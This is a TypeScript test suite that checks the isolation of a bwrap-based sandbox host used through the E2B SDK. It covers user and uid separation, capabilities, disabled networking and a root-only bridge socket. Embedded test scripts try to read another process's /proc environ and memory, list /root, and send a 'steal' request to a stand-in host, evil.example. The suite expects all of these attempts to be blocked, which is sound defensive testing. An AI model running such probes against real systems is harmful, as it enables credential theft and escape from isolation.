/**
 * Containment of a sandbox, checked from inside with the official SDK: the three users (root, user,
 * lakitu-agent) and what separates them, no network, and the component bridge (root only, one upstream).
 * The own-uid checks need the host to run as root (CI does); everything needs bwrap (CI installs it).
 */
import { statSync } from "node:fs";
import http from "node:http";
import path from "node:path";
import { CommandExitError, Sandbox, SandboxError } from "e2b";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startSandboxHost, type SandboxHost } from "./host.js";
import { bwrapInstalled, tempRoot } from "./testing/helpers.js";

const IS_ROOT = process.getuid?.() === 0;

type Seen = { method: string; url: string; host: string; headers: http.IncomingHttpHeaders; body: string };

/** A loopback HTTP server that records what reaches it. */
async function recorder(): Promise<{ url: string; seen: Seen[]; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    let body = "";
    req.on("data", (d: Buffer) => (body += d.toString()));
    req.on("end", () => {
      seen.push({ method: req.method ?? "", url: req.url ?? "", host: req.headers.host ?? "", headers: req.headers, body });
      res.writeHead(200, { "content-type": "application/json", "x-upstream": "yes" });
      res.end(JSON.stringify({ url: req.url, body }));
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address() as { port: number };
  return { url: `http://127.0.0.1:${port}`, seen, close: () => new Promise((r) => server.close(() => r())) };
}

async function sh(sbx: Sandbox, cmd: string, opts: { user?: "root" | "user"; envs?: Record<string, string> } = {}) {
  try {
    return await sbx.commands.run(cmd, opts);
  } catch (e) {
    if (e instanceof CommandExitError) return { exitCode: e.exitCode, stdout: e.stdout, stderr: e.stderr };
    throw e;
  }
}

/** Node code a root command runs: start agent code as lakitu-agent (1001:1000), report what it could do. */
const RUNTIME_JS = `
const { spawn } = require("node:child_process");
const fs = require("node:fs");
const child = spawn(process.execPath, ["/tmp/agent.cjs", String(process.pid)], { uid: 1001, gid: 1000, env: { PATH: process.env.PATH }, stdio: ["ignore", "pipe", "inherit"] });
let out = "";
child.stdout.on("data", (d) => (out += d));
child.on("close", () => {
  const agent = JSON.parse(out);
  // The runtime (root) reads what the agent wrote and can stop agent processes.
  agent.rootReadsAgentFile = fs.readFileSync("/home/user/workspace/agent.txt", "utf8");
  const sleeper = spawn("sleep", ["30"], { uid: 1001, gid: 1000 });
  sleeper.on("spawn", () => {
    process.kill(sleeper.pid, "SIGKILL");
    sleeper.on("exit", (_c, sig) => {
      agent.rootKillsAgent = sig;
      console.log(JSON.stringify(agent));
    });
  });
});
`;

/** Node code lakitu-agent runs: everything it should not be able to do, and writing the workspace. */
const AGENT_JS = `
const fs = require("node:fs");
const net = require("node:net");
const runtimePid = Number(process.argv[2]);
const out = {};
const t = (k, f) => { try { out[k] = f(); } catch (e) { out[k] = e.code || String(e); } };
t("ids", () => [process.getuid(), process.getgid(), process.getgroups()]);
t("environ", () => fs.readFileSync("/proc/" + runtimePid + "/environ", "utf8"));
t("mem", () => { fs.closeSync(fs.openSync("/proc/" + runtimePid + "/mem", "r")); return "opened"; });
t("signal", () => { process.kill(runtimePid, 0); return "allowed"; });
t("rootHome", () => fs.readdirSync("/root"));
t("write", () => { fs.writeFileSync("/home/user/workspace/agent.txt", "by agent"); return "ok"; });
const s = net.connect("/run/lakitu/component.sock");
s.on("connect", () => { out.socket = "connected"; done(); });
s.on("error", (e) => { out.socket = e.code; done(); });
function done() { console.log(JSON.stringify(out)); process.exit(0); }
`;

/** Node code that calls the bridge socket the way the runtime will (and an absolute-form request). */
const BRIDGE_JS = `
const http = require("node:http");
const net = require("node:net");
const sock = process.env.LAKITU_COMPONENT_SOCKET;
const req = http.request({ socketPath: sock, path: "/lakitu/events?run=1", method: "POST", headers: { host: "evil.example", "content-type": "text/plain", connection: "x-hop", "x-hop": "1", "proxy-authorization": "Basic eA==" } }, (res) => {
  let b = "";
  res.on("data", (d) => (b += d));
  res.on("end", () => {
    console.log(res.statusCode, res.headers["x-upstream"], b);
    const s = net.connect(sock, () => s.write("GET http://evil.example/steal?z=2 HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n"));
    let raw = "";
    s.on("data", (d) => (raw += d));
    s.on("end", () => console.log(raw.split("\\r\\n")[0]));
  });
});
req.end("hello body");
`;

describe.skipIf(!bwrapInstalled())("containment (bwrap)", () => {
  let host: SandboxHost;
  let upstream: Awaited<ReturnType<typeof recorder>>;
  let other: Awaited<ReturnType<typeof recorder>>;
  let sbx: Sandbox;
  const summary = () => host.list().find((s) => s.sandboxId === sbx.sandboxId)!;

  beforeAll(async () => {
    upstream = await recorder();
    other = await recorder();
    host = await startSandboxHost({ root: tempRoot("contain"), componentUrl: upstream.url, warn: () => {} });
    expect(host.isolation).toBe("bwrap");
    expect(host.network).toBe("isolated");
    expect(host.ownUids).toBe(IS_ROOT);
    sbx = await Sandbox.create("lakitu", { apiKey: host.apiKey, apiUrl: host.url, sandboxUrl: host.url, timeoutMs: 120_000 });
  }, 30_000);
  afterAll(async () => {
    await host?.close();
    await upstream?.close();
    await other?.close();
  });

  it("has root, user and lakitu-agent; commands run as user by default and as root when asked", async () => {
    expect((await sbx.commands.run("id")).stdout).toBe("uid=1000(user) gid=1000(user) groups=1000(user)\n");
    expect((await sbx.commands.run("id -u; id -un; echo $HOME; pwd", { user: "root" })).stdout).toBe("0\nroot\n/root\n/root\n");
    const passwd = (await sbx.commands.run("getent passwd lakitu-agent")).stdout;
    expect(passwd).toBe("lakitu-agent:x:1001:1000:lakitu agent:/home/user/workspace:/usr/sbin/nologin\n");
    await expect(sbx.commands.run("id", { user: "admin" })).rejects.toThrow(/user 'admin' is not supported.*'user' and 'root'/);
  });

  it("lays out home, workspace, /tmp and /root with their owners and modes", async () => {
    const r = await sbx.commands.run("stat -c '%U:%G %a %n' /home/user /home/user/workspace /tmp /root", { user: "root" });
    expect(r.stdout.split("\n").filter(Boolean)).toEqual([
      "user:user 755 /home/user",
      "user:user 2775 /home/user/workspace",
      "root:root 1777 /tmp",
      "root:root 700 /root",
    ]);
  });

  it("/root is root's and persists across commands; user cannot read it, not through the files API either", async () => {
    expect((await sh(sbx, "mkdir -p /root/.lakitu && echo kept > /root/.lakitu/note", { user: "root" })).exitCode).toBe(0);
    expect((await sbx.commands.run("cat /root/.lakitu/note", { user: "root" })).stdout).toBe("kept\n");
    if (!IS_ROOT) return; // single uid: root and user are the same host uid (README, security notes)
    const asUser = await sh(sbx, "ls /root; cat /root/.lakitu/note");
    expect(asUser.exitCode).not.toBe(0);
    expect(asUser.stderr).toMatch(/Permission denied/);
    await expect(sbx.files.read("/root/.lakitu/note")).rejects.toThrow(/permission denied/);
    await expect(sbx.files.write("/root/.lakitu/evil", "x")).rejects.toBeInstanceOf(SandboxError);
    expect(await sbx.files.read("/root/.lakitu/note", { user: "root" })).toBe("kept\n");
  });

  it("files written as root belong to root; files written as user belong to user", async () => {
    await sbx.files.write("/root/.lakitu/session-token", "tok", { user: "root" });
    await sbx.files.write("/home/user/workspace/by-user.txt", "u");
    await sbx.files.write("/tmp/by-root.txt", "r", { user: "root" });
    const owners = (
      await sbx.commands.run("stat -c '%U %a %n' /root/.lakitu/session-token /home/user/workspace/by-user.txt /tmp/by-root.txt", {
        user: "root",
      })
    ).stdout;
    expect(owners.split("\n").filter(Boolean)).toEqual([
      "root 644 /root/.lakitu/session-token",
      "user 644 /home/user/workspace/by-user.txt",
      "root 644 /tmp/by-root.txt",
    ]);
    if (!IS_ROOT) return;
    const s = summary();
    expect(statSync(path.join(s.dir, "root", ".lakitu", "session-token")).uid).toBe(s.ids!.root);
    expect(statSync(path.join(s.workspace, "by-user.txt")).uid).toBe(s.ids!.user);
    // user may not overwrite root's file in /tmp (0644), through the files API either.
    await expect(sbx.files.write("/tmp/by-root.txt", "overwritten")).rejects.toThrow(/permission denied/);
    expect(await sbx.files.read("/tmp/by-root.txt")).toBe("r");
  });

  it.skipIf(!IS_ROOT)(
    "root starts agent code as lakitu-agent, which cannot read root's memory or environment, signal it, or reach the bridge",
    async () => {
      await sbx.files.write("/tmp/agent.cjs", AGENT_JS, { user: "root" });
      await sbx.files.write("/root/runtime.cjs", RUNTIME_JS, { user: "root" });
      const r = await sbx.commands.run("node /root/runtime.cjs", { user: "root", envs: { LAKITU_TOKEN: "token-only-root-has" } });
      const agent = JSON.parse(r.stdout) as Record<string, unknown>;
      expect(agent.ids).toEqual([1001, 1000, [1000]]);
      expect(agent.environ).toBe("EACCES");
      expect(agent.mem).toBe("EACCES");
      expect(agent.signal).toBe("EPERM");
      expect(agent.rootHome).toBe("EACCES");
      expect(agent.socket).toBe("EACCES");
      expect(agent.write).toBe("ok"); // the workspace is group-writable for user's group
      expect(agent.rootReadsAgentFile).toBe("by agent");
      expect(agent.rootKillsAgent).toBe("SIGKILL");
      const s = summary();
      const st = statSync(path.join(s.workspace, "agent.txt"));
      expect([st.uid, st.gid]).toEqual([s.ids!.agent, s.ids!.user]); // setgid workspace: group user
    },
  );

  it.skipIf(!IS_ROOT)("gives root only the capabilities the runtime needs, user none, and no one nested user namespaces", async () => {
    const capEff = async (user: "root" | "user") =>
      BigInt(`0x${/CapEff:\s*([0-9a-f]+)/.exec((await sbx.commands.run("cat /proc/self/status", { user })).stdout)![1]}`);
    // CHOWN 0, DAC_OVERRIDE 1, FOWNER 3, KILL 5, SETGID 6, SETUID 7.
    expect(await capEff("root")).toBe((1n << 0n) | (1n << 1n) | (1n << 3n) | (1n << 5n) | (1n << 6n) | (1n << 7n));
    expect(await capEff("user")).toBe(0n);
    for (const user of ["root", "user"] as const) {
      const r = await sh(sbx, "unshare --user true", { user });
      expect(r.exitCode, user).not.toBe(0);
    }
  });

  it("has no network: the host's loopback services are refused, for root too", async () => {
    for (const user of ["user", "root"] as const) {
      const r = await sh(sbx, `node -e "fetch('${other.url}/x').then(r => console.log(r.status), e => console.log(e.cause.code))"`, {
        user,
      });
      expect(r.stdout, user).toBe("ECONNREFUSED\n");
    }
    expect(other.seen).toEqual([]);
  });

  it("bridges the socket to the upstream only: path and query kept, body streamed, Host and hop-by-hop headers replaced", async () => {
    await sbx.files.write("/root/bridge.cjs", BRIDGE_JS, { user: "root" });
    upstream.seen.length = 0;
    const r = await sbx.commands.run("node /root/bridge.cjs", { user: "root" });
    const [first, second] = r.stdout.split("\n");
    expect(first).toBe(`200 yes ${JSON.stringify({ url: "/lakitu/events?run=1", body: "hello body" })}`);
    expect(second).toBe("HTTP/1.1 200 OK");
    const hostHeader = new URL(upstream.url).host;
    expect(upstream.seen.map((x) => [x.method, x.url, x.host])).toEqual([
      ["POST", "/lakitu/events?run=1", hostHeader],
      ["GET", "/steal?z=2", hostHeader], // a request for another host still goes to the upstream
    ]);
    expect(upstream.seen[0]!.body).toBe("hello body");
    expect(upstream.seen[0]!.headers["x-hop"]).toBeUndefined();
    expect(upstream.seen[0]!.headers["proxy-authorization"]).toBeUndefined();
    expect(other.seen).toEqual([]);
  });

  it.skipIf(!IS_ROOT)("the bridge socket is root's: user cannot connect to it", async () => {
    const r = await sh(
      sbx,
      `node -e "require('net').connect(process.env.LAKITU_COMPONENT_SOCKET).on('connect', () => console.log('connected')).on('error', (e) => console.log(e.code))"`,
    );
    expect(r.stdout).toBe("EACCES\n");
    const s = summary();
    const sock = statSync(s.componentSocket!);
    expect([sock.uid, sock.mode & 0o777]).toEqual([s.ids!.root, 0o600]);
    expect(statSync(path.dirname(s.componentSocket!)).mode & 0o777).toBe(0o700);
  });

  it("accepts what denies all traffic (allowInternetAccess: false, the E2B provider's allowOut + denyOut 0.0.0.0/0); refuses what would open it", async () => {
    const opts = { apiKey: host.apiKey, apiUrl: host.url, sandboxUrl: host.url };
    await expect(Sandbox.create("lakitu", { ...opts, allowInternetAccess: true })).rejects.toThrow(/sandboxes have no network/);
    await expect(Sandbox.create("lakitu", { ...opts, network: { allowOut: ["example.com"] } })).rejects.toThrow(
      /unless they deny all traffic/,
    );
    await expect(Sandbox.create("lakitu", { ...opts, network: { denyOut: ["10.0.0.0/8"] } })).rejects.toThrow(
      /unless they deny all traffic/,
    );
    for (const extra of [{ allowInternetAccess: false }, { network: { allowOut: ["127.0.0.1"], denyOut: ["0.0.0.0/0"] } }]) {
      const closed = await Sandbox.create("lakitu", { ...opts, ...extra });
      const r = await sh(closed, `node -e "fetch('${other.url}/x').then(r => console.log(r.status), e => console.log(e.cause.code))"`, {
        user: "root",
      });
      expect(r.stdout, JSON.stringify(extra)).toBe("ECONNREFUSED\n");
      await closed.kill();
    }
    expect(other.seen).toEqual([]);
  });
});

describe.skipIf(!bwrapInstalled())("component bridge without an upstream, and shared network", () => {
  it("answers 502 naming the missing component URL", async () => {
    const host = await startSandboxHost({ root: tempRoot("noupstream"), warn: () => {} });
    try {
      const sbx = await Sandbox.create("lakitu", { apiKey: host.apiKey, apiUrl: host.url, sandboxUrl: host.url });
      const js =
        "require('http').get({ socketPath: process.env.LAKITU_COMPONENT_SOCKET, path: '/x' }, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => console.log(r.statusCode, b)); })";
      const r = await sbx.commands.run(`node -e "${js}"`, { user: "root" });
      expect(r.stdout).toMatch(/^502 .*no component URL to bridge to.*--component-url/);
    } finally {
      await host.close();
    }
  });

  it("refuses a componentUrl that is not an http(s) origin, naming the option", async () => {
    await expect(startSandboxHost({ root: tempRoot("badupstream"), componentUrl: "ftp://x", warn: () => {} })).rejects.toMatchObject({
      code: "invalid_option",
      message: expect.stringMatching(/componentUrl must use http or https/),
    });
    await expect(
      startSandboxHost({ root: tempRoot("badupstream2"), componentUrl: "http://127.0.0.1:1/lakitu", warn: () => {} }),
    ).rejects.toThrow(/componentUrl must be an origin/);
  });

  it("shares the host's network only with sharedNetwork", async () => {
    const target = await recorder();
    const host = await startSandboxHost({ root: tempRoot("shared"), sharedNetwork: true, warn: () => {} });
    try {
      expect(host.network).toBe("shared");
      const sbx = await Sandbox.create("lakitu", { apiKey: host.apiKey, apiUrl: host.url, sandboxUrl: host.url });
      const r = await sbx.commands.run(`node -e "fetch('${target.url}/shared').then(r => console.log(r.status))"`);
      expect(r.stdout).toBe("200\n");
      expect(target.seen.map((s) => s.url)).toEqual(["/shared"]);
      await expect(
        Sandbox.create("lakitu", { apiKey: host.apiKey, apiUrl: host.url, sandboxUrl: host.url, allowInternetAccess: false }),
      ).rejects.toThrow(/shares its network/);
    } finally {
      await host.close();
      await target.close();
    }
  });

  it("with one shared uid (perSandboxUid off, as for a host not running as root), root is uid 0 of that namespace", async () => {
    const host = await startSandboxHost({ root: tempRoot("shareduid"), perSandboxUid: false, warn: () => {} });
    try {
      expect(host.ownUids).toBe(false);
      const sbx = await Sandbox.create("lakitu", { apiKey: host.apiKey, apiUrl: host.url, sandboxUrl: host.url });
      expect((await sbx.commands.run("id -u; id -un", { user: "root" })).stdout).toBe("0\nroot\n");
      expect((await sbx.commands.run("id -u; id -un")).stdout).toBe("1000\nuser\n");
      // No capabilities, no network, no nested user namespaces, in either case.
      const r = await sh(
        sbx,
        "grep CapEff /proc/self/status; tail -n +3 /proc/net/dev | cut -d: -f1; unshare --user true || echo nested-refused",
        { user: "root" },
      );
      expect(r.stdout.replace(/[ \t]+/g, " ")).toBe("CapEff: 0000000000000000\n lo\nnested-refused\n");
    } finally {
      await host.close();
    }
  });
});
